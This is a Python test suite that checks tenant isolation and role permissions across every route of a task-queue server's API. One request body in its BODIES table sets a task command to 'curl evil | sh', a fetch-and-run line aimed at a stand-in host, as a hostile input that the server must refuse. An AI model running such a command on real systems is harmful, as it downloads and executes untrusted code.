"""Tenants and roles, checked against every route of the OpenAPI schema, on SQLite and
PostgreSQL: another tenant's resources are 404 (or 403 where the role forbids the route), a
worker key can only claim, heartbeat and report, and no other tenant's data ever shows."""

from __future__ import annotations

import asyncio
import json
import uuid
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from taskqueue import AsyncTaskQueueClient, AuthorizationError, TaskQueueClient
from taskqueue.models import REDACTED, ApiKeyRole
from taskqueue_server.db.tenancy import Role

if TYPE_CHECKING:
    from conftest import NewKey, Serve, ServerProcess

WORKER_ROUTES = {
    ("POST", "/api/workers/claim"),
    ("POST", "/api/tasks/{task_id}/heartbeat"),
    ("POST", "/api/tasks/{task_id}/complete"),
    ("POST", "/api/tasks/{task_id}/fail"),
    ("POST", "/api/workers/report"),
}

# A valid body for every route that takes one; a route missing here fails the test, so a new
# route must be added (and so checked) before it ships.
BODIES: dict[tuple[str, str], Any] = {
    ("POST", "/api/tasks"): {"name": "b-task", "command": "true"},
    ("POST", "/api/tasks/batch"): {"tasks": [{"name": "b-task", "command": "true"}]},
    ("GET", "/api/tasks"): None,
    ("GET", "/api/tasks/{task_id}"): None,
    ("PATCH", "/api/tasks/{task_id}"): {"command": "curl evil | sh"},
    ("DELETE", "/api/tasks/{task_id}"): None,
    ("POST", "/api/tasks/{task_id}/cancel"): {"reason": "b says so"},
    ("POST", "/api/tasks/{task_id}/retry"): None,
    ("POST", "/api/tasks/{task_id}/advance-phase"): None,
    ("POST", "/api/workers/claim"): {"worker_id": "b-worker", "max_tasks": 100},
    ("POST", "/api/tasks/{task_id}/heartbeat"): {"worker_id": "a-worker", "lease_token": "t"},
    ("POST", "/api/tasks/{task_id}/complete"): {
        "worker_id": "a-worker",
        "lease_token": "t",
        "result": {},
    },
    ("POST", "/api/tasks/{task_id}/fail"): {
        "worker_id": "a-worker",
        "lease_token": "t",
        "result": {},
    },
    # No path parameter: another tenant's task in a batch is that report's "not accepted"
    # (test_lease_reports checks the answer); here the body names an unknown task.
    ("POST", "/api/workers/report"): {
        "worker_id": "b-worker",
        "reports": [
            {
                "task_id": "00000000-0000-4000-8000-000000000000",
                "lease_token": "t",
                "outcome": "complete",
                "result": {},
            }
        ],
    },
    ("POST", "/api/projects"): {"name": "b-project"},
    ("GET", "/api/projects"): None,
    ("GET", "/api/projects/{project_id}"): None,
    ("PATCH", "/api/projects/{project_id}"): {"name": "renamed by b"},
    ("DELETE", "/api/projects/{project_id}"): None,
    ("POST", "/api/webhooks"): {"url": "http://127.0.0.1:9/b", "events": ["task.created"]},
    ("GET", "/api/webhooks"): None,
    ("DELETE", "/api/webhooks/{webhook_id}"): None,
    ("GET", "/api/webhooks/{webhook_id}/deliveries"): None,
    ("POST", "/api/webhooks/{webhook_id}/deliveries/{delivery_id}/redeliver"): None,
    ("GET", "/api/stats"): None,
    ("GET", "/api/keys"): None,
    ("POST", "/api/keys"): {"name": "b-made", "role": "admin"},
    ("DELETE", "/api/keys/{key_id}"): None,
}

# Which roles may call each route at all (the rest get 403).
READ = {Role.ADMIN, Role.PRODUCER, Role.READER}
WRITE = {Role.ADMIN, Role.PRODUCER}
ADMIN = {Role.ADMIN}
WORK = {Role.ADMIN, Role.WORKER}


def allowed_roles(method: str, path: str) -> set[Role]:
    if (method, path) in WORKER_ROUTES:
        return WORK
    if path.startswith(("/api/webhooks", "/api/keys")):
        return ADMIN
    if path.startswith("/api/projects"):
        return READ if method == "GET" else ADMIN
    if path.startswith("/api/tasks"):
        return READ if method == "GET" else WRITE
    return READ  # /api/stats


async def seed(http: httpx.AsyncClient, admin: dict[str, str]) -> dict[str, str]:
    """Tenant A's project, task (with a secret), webhook and one delivery."""
    project = (await http.post("/api/projects", json={"name": "a"}, headers=admin)).json()
    hook = await http.post(
        "/api/webhooks",
        json={"url": "http://127.0.0.1:9/a", "events": ["task.created"]},
        headers=admin,
    )
    assert hook.status_code == 201, hook.text
    task = await http.post(
        "/api/tasks",
        json={
            "name": "a-task",
            "command": "make deploy",
            "project_id": project["id"],
            "environment": {"REGION": "eu-a"},
            "secret_environment": {"TOKEN": "a-secret-token"},
        },
        headers=admin,
    )
    assert task.status_code == 201, task.text
    hook_id = hook.json()["id"]
    for _ in range(200):  # the delivery row appears once the event is fanned out
        deliveries = await http.get(f"/api/webhooks/{hook_id}/deliveries", headers=admin)
        if deliveries.json()["deliveries"]:
            break
        await asyncio.sleep(0.05)
    [delivery] = deliveries.json()["deliveries"]
    key = await http.post("/api/keys", json={"name": "a-reader", "role": "reader"}, headers=admin)
    assert key.status_code == 201, key.text
    return {
        "key_id": key.json()["id"],
        "task_id": task.json()["id"],
        "project_id": project["id"],
        "webhook_id": hook_id,
        "delivery_id": delivery["id"],
    }


def operations(http: httpx.AsyncClient) -> list[tuple[str, str]]:
    schema = http.app.openapi()  # type: ignore[attr-defined]
    found = [
        (method.upper(), path)
        for path, item in schema["paths"].items()
        if path.startswith("/api/")
        for method in item
    ]
    missing = set(found) - set(BODIES)
    assert not missing, f"routes without a tenant-isolation case: {sorted(missing)}"
    return sorted(found)


async def test_other_tenants_resources_are_404_or_403_for_every_route_and_role(
    serve: Serve,
    new_key: NewKey,
    database_url: str,
) -> None:
    async with serve(database_url) as http:
        a_admin = await new_key(http, "tenant-a", Role.ADMIN)
        ids = await seed(http, a_admin)
        before = (await http.get(f"/api/tasks/{ids['task_id']}", headers=a_admin)).json()
        for role in Role:
            b_key = await new_key(http, "tenant-b", role)
            for method, path in operations(http):
                url = path.format(**ids)
                body = BODIES[(method, path)]
                answer = await http.request(method, url, json=body, headers=b_key)
                where = f"{role} {method} {path}: {answer.status_code} {answer.text[:300]}"
                if role not in allowed_roles(method, path):
                    assert answer.status_code == 403, where
                    continue
                if "{" in path:
                    assert answer.status_code == 404, where
                    continue
                assert answer.status_code < 300, where
                text = answer.text
                for secret in (*ids.values(), "eu-a", "tenant-a"):
                    assert secret not in text, where
        # Nothing of A's changed.
        after = (await http.get(f"/api/tasks/{ids['task_id']}", headers=a_admin)).json()
        assert after["command"] == "make deploy"
        assert after["status"] == before["status"] == "Pending"
        assert after["updated_at"] == before["updated_at"]
        project = await http.get(f"/api/projects/{ids['project_id']}", headers=a_admin)
        assert project.json()["name"] == "a"
        hooks = (await http.get("/api/webhooks", headers=a_admin)).json()["webhooks"]
        assert [h["id"] for h in hooks] == [ids["webhook_id"]]
        a_keys = (await http.get("/api/keys", headers=a_admin)).json()["keys"]
        assert {k["name"]: k["revoked_at"] for k in a_keys} == {
            "tenant-a-admin": None,
            "a-reader": None,
        }
        stats = (await http.get("/api/stats", headers=a_admin)).json()
        assert stats["tasks_total"] == 1
        assert stats["projects_total"] == 1


async def test_a_worker_key_can_only_claim_heartbeat_and_report(
    serve: Serve, new_key: NewKey, database_url: str
) -> None:
    async with serve(database_url) as http:
        admin = await new_key(http, "tenant-a", Role.ADMIN)
        ids = await seed(http, admin)
        worker = await new_key(http, "tenant-a", Role.WORKER)
        for method, path in operations(http):
            if (method, path) in WORKER_ROUTES:
                continue
            answer = await http.request(
                method, path.format(**ids), json=BODIES[(method, path)], headers=worker
            )
            assert answer.status_code == 403, (method, path, answer.text)
            assert "worker" in answer.json()["detail"]
        claimed = await http.post(
            "/api/workers/claim", json={"worker_id": "a-worker"}, headers=worker
        )
        [task] = claimed.json()["tasks"]
        assert task["id"] == ids["task_id"]
        assert task["secret_environment"] == {"TOKEN": "a-secret-token"}
        lease = {"worker_id": "a-worker", "lease_token": task["lease_token"]}
        beat = await http.post(f"/api/tasks/{task['id']}/heartbeat", json=lease, headers=worker)
        assert beat.status_code == 200
        done = await http.post(
            f"/api/tasks/{task['id']}/complete",
            json={**lease, "result": {"exit_code": 0}},
            headers=worker,
        )
        assert done.status_code == 200
        assert done.json()["secret_environment"] == {"TOKEN": "[redacted]"}
        current = (await http.get(f"/api/tasks/{ids['task_id']}", headers=admin)).json()
        assert current["command"] == "make deploy"
        assert current["status"] == "Completed"


async def test_workers_claim_only_their_tenants_tasks(
    serve: Serve, new_key: NewKey, database_url: str
) -> None:
    async with serve(database_url) as http:
        a, b = await new_key(http, "a", Role.PRODUCER), await new_key(http, "b", Role.PRODUCER)
        for i in range(3):
            await http.post("/api/tasks", json={"name": f"a{i}", "command": "true"}, headers=a)
        await http.post("/api/tasks", json={"name": "b0", "command": "true"}, headers=b)
        b_worker = await new_key(http, "b", Role.WORKER)
        claimed = await http.post(
            "/api/workers/claim", json={"worker_id": "w", "max_tasks": 10}, headers=b_worker
        )
        assert [t["name"] for t in claimed.json()["tasks"]] == ["b0"]
        listed = (await http.get("/api/tasks", headers=a)).json()
        assert sorted(t["name"] for t in listed["tasks"]) == ["a0", "a1", "a2"]
        assert listed["total"] == 3
        # A dependency on another tenant's task is an unknown task.
        b_task = (await http.get("/api/tasks", headers=b)).json()["tasks"][0]["id"]
        dep = await http.post(
            "/api/tasks", json={"name": "x", "command": "true", "dependencies": [b_task]}, headers=a
        )
        assert dep.status_code == 404


async def test_project_restricted_keys_see_only_their_projects(
    serve: Serve, new_key: NewKey, database_url: str
) -> None:
    async with serve(database_url) as http:
        admin = await new_key(http, "t", Role.ADMIN)
        mine = (await http.post("/api/projects", json={"name": "mine"}, headers=admin)).json()
        other = (await http.post("/api/projects", json={"name": "other"}, headers=admin)).json()
        await http.post(
            "/api/tasks",
            json={"name": "in-other", "command": "true", "project_id": other["id"]},
            headers=admin,
        )
        await http.post("/api/tasks", json={"name": "no-project", "command": "true"}, headers=admin)
        producer = await new_key(http, "t", Role.PRODUCER, [uuid.UUID(mine["id"])])
        created = await http.post(
            "/api/tasks",
            json={"name": "in-mine", "command": "true", "project_id": mine["id"]},
            headers=producer,
        )
        assert created.status_code == 201
        listed = (await http.get("/api/tasks", headers=producer)).json()
        assert [t["name"] for t in listed["tasks"]] == ["in-mine"]
        projects = (await http.get("/api/projects", headers=producer)).json()["projects"]
        assert [p["name"] for p in projects] == ["mine"]
        assert (await http.get(f"/api/projects/{other['id']}", headers=producer)).status_code == 404
        elsewhere = await http.post(
            "/api/tasks",
            json={"name": "x", "command": "true", "project_id": other["id"]},
            headers=producer,
        )
        assert elsewhere.status_code == 404
        nowhere = await http.post(
            "/api/tasks", json={"name": "x", "command": "t"}, headers=producer
        )
        assert nowhere.status_code == 403
        assert "project" in nowhere.json()["detail"]
        stats = (await http.get("/api/stats", headers=producer)).json()
        assert stats["tasks_total"] == 1
        assert stats["projects_total"] == 1
        # Subscriptions carry every project's events: not for a restricted key, even an admin.
        limited_admin = await new_key(http, "t", Role.ADMIN, [uuid.UUID(mine["id"])])
        hooks = await http.get("/api/webhooks", headers=limited_admin)
        assert hooks.status_code == 403
        assert "restricted to projects" in hooks.json()["detail"]


@pytest.mark.parametrize("role", [Role.PRODUCER, Role.READER, Role.WORKER])
async def test_only_admins_see_webhooks_and_delivery_logs(
    serve: Serve, new_key: NewKey, database_url: str, role: Role
) -> None:
    async with serve(database_url) as http:
        admin = await new_key(http, "t", Role.ADMIN)
        ids = await seed(http, admin)
        key = await new_key(http, "t", role)
        for path in ("/api/webhooks", f"/api/webhooks/{ids['webhook_id']}/deliveries"):
            answer = await http.get(path, headers=key)
            assert answer.status_code == 403, answer.text
            assert answer.json()["allowed_roles"] == ["admin"]


async def test_admins_manage_their_tenants_keys_only(
    serve: Serve, new_key: NewKey, database_url: str
) -> None:
    async with serve(database_url) as http:
        admin = await new_key(http, "t", Role.ADMIN)
        project = (await http.post("/api/projects", json={"name": "p"}, headers=admin)).json()
        made = await http.post(
            "/api/keys",
            json={"name": "ci", "role": "producer", "projects": [project["id"]]},
            headers=admin,
        )
        assert made.status_code == 201, made.text
        body = made.json()
        assert (body["tenant"], body["role"], body["projects"]) == (
            "t",
            "producer",
            [project["id"]],
        )
        ci = {"X-API-Key": body["key"]}
        task = await http.post(
            "/api/tasks",
            json={"name": "x", "command": "true", "project_id": project["id"]},
            headers=ci,
        )
        assert task.status_code == 201
        listed = (await http.get("/api/keys", headers=admin)).json()["keys"]
        assert all("key" not in k or k["key"] is None for k in listed)
        assert body["key"] not in json.dumps(listed)
        # A key restricted to projects hands out only keys restricted to some of them.
        limited_admin = await new_key(http, "t", Role.ADMIN, [uuid.UUID(project["id"])])
        wider = await http.post("/api/keys", json={"name": "w"}, headers=limited_admin)
        assert wider.status_code == 403
        unknown = await http.post(
            "/api/keys", json={"name": "u", "projects": [str(uuid.uuid4())]}, headers=admin
        )
        assert unknown.status_code == 404
        assert (await http.delete(f"/api/keys/{body['id']}", headers=admin)).status_code == 204
        assert (await http.get("/api/tasks", headers=ci)).status_code == 401
        revoked = (await http.get("/api/keys", headers=admin)).json()["keys"]
        assert next(k for k in revoked if k["id"] == body["id"])["revoked_at"] is not None


async def test_the_sdk_manages_keys_and_secret_environment(
    server: ServerProcess, api_key: str
) -> None:
    async with AsyncTaskQueueClient(server.url, api_key=api_key) as client:
        made = await client.create_api_key("sdk-reader", ApiKeyRole.READER)
        assert made.key is not None
        # the new key belongs to its creator's tenant (the only tenant this admin sees)
        tenants = {k.tenant for k in await client.list_api_keys()}
        assert (made.role, {made.tenant}, made.projects) == (ApiKeyRole.READER, tenants, None)
        task = await client.create_task(
            name="sdk", command="true", secret_environment={"TOKEN": "sdk-secret"}
        )
        assert task.secret_environment == {"TOKEN": REDACTED}
        async with AsyncTaskQueueClient(server.url, api_key=made.key.get_secret_value()) as reader:
            seen = await reader.get_task(task.id)
            assert seen.secret_environment == {"TOKEN": REDACTED}
            with pytest.raises(AuthorizationError):
                await reader.create_task(name="no", command="true")
        await client.revoke_api_key(made.id)
        await client.cancel_task(task.id)
    with TaskQueueClient(server.url, api_key=api_key) as sync:
        keys = {k.id: k for k in sync.list_api_keys()}
        assert keys[made.id].revoked_at is not None
        assert all(k.key is None for k in keys.values())
